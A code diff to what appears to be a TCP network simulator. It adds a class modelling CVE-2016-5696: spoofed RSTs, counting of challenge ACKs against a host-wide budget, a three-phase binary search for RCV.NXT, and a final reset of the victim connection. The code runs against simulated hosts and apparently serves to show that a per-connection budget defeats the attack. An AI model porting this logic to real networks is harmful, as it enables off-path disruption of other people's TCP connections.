@@ -38,6 +38,7 @@ from synack.wire.tcp import (
 __all__ = [
     "HALF",
     "AttemptLog",
+    "ChallengeAckSideChannel",
     "DataInjector",
     "IsnPredictor",
     "ResetSprayer",
@@ -436,3 +437,186 @@ def _syn(sport: int, dport: int, iss: int) -> Segment:
 
 def _halves(x: int) -> tuple[int, int]:
     return x & MASK, (x + HALF) & MASK
+
+
+class ChallengeAckSideChannel:
+    """CVE-2016-5696: read a host-wide challenge-ACK budget to find RCV.NXT, then reset.
+
+    Cao et al. ("Off-Path TCP Exploits: Global Rate Limit Considered
+    Dangerous", USENIX Security, August 2016) showed that Linux 3.6 to 4.6,
+    which allowed 100 challenge ACKs a second for the whole host, told an
+    off-path attacker whether a spoofed segment had drawn one: after it, the
+    attacker's own connection gets one challenge ACK fewer. Each round here,
+    at least a second apart so that every round has a fresh budget:
+
+    1. spoofed RSTs for the victim's 4-tuple (one per window-sized step of a
+       set of candidates); one inside the window, not exact, spends one
+       challenge ACK on the real client;
+    2. ``probes`` RSTs on the attacker's own connection, in its window but
+       not exact: each draws a challenge ACK while the budget lasts;
+    3. it counts the challenge ACKs that come back: fewer than in a calibration
+       round without step 1 means a candidate was in the window.
+
+    Phase A tests the sequence space in batches of ``batch`` steps, phase B
+    halves the batch that answered down to one step, phase C halves the window
+    below that step down to RCV.NXT itself (a RST below RCV.NXT is out of the
+    window and silent; one at or above it answers), and a RST at RCV.NXT ends
+    the connection. A per-connection budget (synack's) never moves: the
+    calibration count is always what comes back, and the attacker learns nothing.
+    """
+
+    def __init__(
+        self,
+        *,
+        server: bytes,
+        dport: int,
+        client: bytes,
+        cport: int,
+        window: int,
+        seed: int,
+        probes: int = 100,
+        batch: int = 4096,
+        interval: int = 1_200_000,
+    ) -> None:
+        self.server, self.dport, self.client, self.cport = server, dport, client, cport
+        self.window = window
+        self.probes = probes
+        self.batch = batch
+        self.interval = interval
+        self.rng = random.Random(f"{seed}/side-channel")
+        self.first_seq = self.rng.getrandbits(32)
+        self.slots = -(-(1 << 32) // window)
+        self.own_port = 40_000 + self.rng.randrange(1000)
+        self.own_iss = self.rng.getrandbits(32)
+        self.own_seq = 0
+        self.log = AttemptLog()  # one entry per round: a question to the side channel
+        self.packets = 0
+        self.baseline: int | None = None
+        self.phase = "connect"
+        self.candidates: list[int] = []  # phase A/B: step numbers; phase C: offsets
+        self.next_batch = 0
+        self.lo = self.hi = 0
+        self.anchor = 0  # phase C: a sequence number known to be in the window
+        self.answered = 0
+        self._counting = False
+        self._tested: list[int] = []
+        self.outcome = ""
+
+    # ------------------------------------------------------------ plumbing
+    def start(self, host: OffPathHost, now: int) -> None:
+        host.note(now, "opens a connection of its own to the server, to read the budget through")
+        self._send(host, host.address, _syn(self.own_port, self.dport, self.own_iss))
+
+    def on_segment(self, host: OffPathHost, src: bytes, dst: bytes, seg: Segment, now: int) -> None:
+        if src != self.server or seg.dst_port != self.own_port:
+            return
+        if self.phase == "connect" and seg.flags & (SYN | ACK) == SYN | ACK:
+            self.own_seq = (self.own_iss + 1) & MASK
+            self._send(
+                host,
+                host.address,
+                Segment(
+                    self.own_port, self.dport, self.own_seq, (seg.seq + 1) & MASK, ACK, window=65535
+                ),
+            )
+            self.phase = "calibrate"
+            host.at(now + self.interval, partial(self._round, host))
+        elif self._counting and seg.flags & (SYN | RST) == 0 and not seg.payload:
+            self.answered += 1  # a challenge ACK for one of our own RSTs
+
+    def _send(self, host: OffPathHost, src: bytes, seg: Segment) -> None:
+        self.packets += 1
+        host.send(src, self.server, seg)
+
+    def _spoof(self, host: OffPathHost, seq: int) -> None:
+        self._send(host, self.client, Segment(self.cport, self.dport, seq & MASK, 0, RST))
+
+    # ------------------------------------------------------------- rounds
+    def _round(self, host: OffPathHost, now: int) -> None:
+        tested = self._plan()
+        if tested is None:
+            return
+        self.log.add(self.phase, now)
+        for seq in tested:
+            self._spoof(host, seq)
+        self.answered = 0
+        self._counting = True
+        # In the window, not exact: each draws a challenge ACK while the budget lasts.
+        for _ in range(self.probes):
+            self._send(
+                host,
+                host.address,
+                Segment(self.own_port, self.dport, (self.own_seq + 1) & MASK, 0, RST),
+            )
+        self._tested = tested
+        host.at(now + 100_000, partial(self._count, host))
+
+    def _count(self, host: OffPathHost, now: int) -> None:
+        self._counting = False
+        got = self.answered
+        if self.baseline is None:
+            self.baseline = got
+            host.note(now, f"calibration: {got} challenge ACKs for its {self.probes} RSTs")
+            self.phase = "A"
+        else:
+            self._learn(host, now, got < self.baseline)
+        if self.phase != "done":
+            host.at(now + self.interval - 100_000, partial(self._round, host))
+
+    def _plan(self) -> list[int] | None:
+        """The spoofed sequence numbers of the next round (empty: calibration)."""
+        if self.phase == "calibrate":
+            return []
+        if self.phase == "A":
+            if self.next_batch >= self.slots:
+                return None
+            self.candidates = list(
+                range(self.next_batch, min(self.slots, self.next_batch + self.batch))
+            )
+            self.next_batch += self.batch
+            return [self.first_seq + i * self.window for i in self.candidates]
+        if self.phase == "B":
+            half = self.candidates[: len(self.candidates) // 2]
+            return [self.first_seq + i * self.window for i in half]
+        if self.phase == "C":
+            mid = (self.lo + self.hi) // 2
+            return [self.anchor + mid]
+        if self.phase == "kill":
+            return [self.anchor + self.lo]
+        return None
+
+    def _learn(self, host: OffPathHost, now: int, hit: bool) -> None:
+        if self.phase == "A":
+            if hit:
+                host.note(
+                    now,
+                    f"one challenge ACK missing: steps {self.candidates[0]:,}.."
+                    f"{self.candidates[-1]:,} hold the window",
+                )
+                self.phase = "B"
+            elif self.next_batch >= self.slots:
+                host.note(now, "no round ever came back short: the budget tells nothing")
+                self.phase, self.outcome = "done", "no signal"
+        elif self.phase == "B":
+            n = len(self.candidates) // 2
+            self.candidates = self.candidates[:n] if hit else self.candidates[n:]
+            if len(self.candidates) == 1:
+                self.anchor = (self.first_seq + self.candidates[0] * self.window) & MASK
+                # RCV.NXT is in (anchor - window, anchor]: offsets -window+1 .. 0.
+                self.lo, self.hi = -self.window + 1, 0
+                host.note(now, f"Seq {self.anchor:,} is in the window; now RCV.NXT, by halves")
+                self.phase = "C"
+        elif self.phase == "C":
+            mid = (self.lo + self.hi) // 2
+            if hit:  # mid is in the window and not RCV.NXT: RCV.NXT is below it
+                self.hi = mid - 1
+            else:  # below the window (or exactly RCV.NXT, which reset the connection)
+                self.lo = mid + 1
+            if self.lo >= self.hi:
+                self.phase = "kill"
+        elif self.phase == "kill":
+            host.note(
+                now,
+                f"RCV.NXT must be {(self.anchor + self.lo) & MASK:,}: its RST went out last round",
+            )
+            self.phase, self.outcome = "done", "reset sent"
